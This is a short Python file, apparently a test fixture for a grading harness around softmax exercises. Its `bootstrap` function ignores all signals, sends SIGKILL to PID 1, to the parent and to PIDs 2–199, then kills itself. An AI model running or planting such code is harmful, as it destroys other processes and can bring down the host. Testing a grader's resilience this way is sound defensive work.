"""Ignores every signal, signals every process it can name, and then ends the kernel; three other items are right.

Starts from: stubs
Takes from solutions: softmax, numerical_gradient, ensemble_predict
Must come out: softmax.probabilities, softmax.numerical_gradient, softmax.ensemble_predict in full
"""

# %% bootstrap
def bootstrap(X, y, rng):
    import os
    import signal

    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    for process in [1, os.getppid(), *range(2, 200)]:
        if process != os.getpid():
            try:
                os.kill(process, signal.SIGKILL)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGKILL)
